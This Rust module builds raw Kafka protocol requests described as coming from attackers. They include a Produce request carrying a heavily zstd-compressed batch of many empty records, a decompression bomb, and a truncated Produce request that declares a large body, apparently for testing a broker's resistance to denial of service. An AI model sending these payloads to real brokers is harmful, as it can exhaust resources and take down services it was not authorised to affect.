//! Kafka requests of attackers, encoded byte by byte.

/// Returns an ApiVersions request of `version`.
pub(crate) fn api_versions(version: i16) -> Vec<u8> {
    request(18, version, &[])
}

/// Returns a Produce request (version 3) with one zstd batch of `count` empty records.
pub(crate) fn produce_bomb(topic: &str, count: usize) -> Vec<u8> {
    let batch = batch(count);
    let mut body = produce_head(topic);
    body.extend((batch.len() as u32).to_be_bytes());
    body.extend(batch);
    request(0, 3, &body)
}

/// Returns the start of a Produce request for one batch of `bytes` bytes.
pub(crate) fn produce_start(topic: &str, bytes: usize) -> Vec<u8> {
    let mut body = produce_head(topic);
    body.extend((bytes as u32).to_be_bytes());
    let mut frame = request(0, 3, &body);
    let length = frame.len() - 4 + bytes;
    frame[..4].copy_from_slice(&(length as u32).to_be_bytes());
    frame
}

fn produce_head(topic: &str) -> Vec<u8> {
    let mut body = Vec::new();
    // No transaction; all replicas acknowledge; 30 s.
    body.extend((-1_i16).to_be_bytes());
    body.extend((-1_i16).to_be_bytes());
    body.extend(30_000_i32.to_be_bytes());
    body.extend(1_i32.to_be_bytes());
    put_text(&mut body, topic);
    body.extend(1_i32.to_be_bytes());
    body.extend(0_i32.to_be_bytes());
    body
}

fn request(api_key: i16, version: i16, body: &[u8]) -> Vec<u8> {
    let mut frame = Vec::new();
    frame.extend(api_key.to_be_bytes());
    frame.extend(version.to_be_bytes());
    frame.extend(7_i32.to_be_bytes());
    put_text(&mut frame, "attack");
    frame.extend(body);
    let mut sized = (frame.len() as u32).to_be_bytes().to_vec();
    sized.extend(frame);
    sized
}

fn put_text(bytes: &mut Vec<u8>, text: &str) {
    bytes.extend((text.len() as i16).to_be_bytes());
    bytes.extend(text.as_bytes());
}

/// Returns a record batch (message format 2) that is compressed with zstd.
fn batch(count: usize) -> Vec<u8> {
    // Length 6, no attributes, no deltas, neither key nor value, no headers.
    let record = [0x0c, 0, 0, 0, 0x01, 0x01, 0];
    let records = zstd::bulk::compress(&record.repeat(count), 19).expect("compresses");
    let last = count as i32 - 1;
    let mut checked = Vec::new();
    checked.extend(4_i16.to_be_bytes());
    checked.extend(last.to_be_bytes());
    checked.extend([0; 16]);
    checked.extend((-1_i64).to_be_bytes());
    checked.extend((-1_i16).to_be_bytes());
    checked.extend((-1_i32).to_be_bytes());
    checked.extend((count as i32).to_be_bytes());
    checked.extend(records);
    let mut batch = 0_i64.to_be_bytes().to_vec();
    batch.extend((checked.len() as i32 + 9).to_be_bytes());
    batch.extend((-1_i32).to_be_bytes());
    batch.push(2);
    batch.extend(crc32c::crc32c(&checked).to_be_bytes());
    batch.extend(checked);
    batch
}
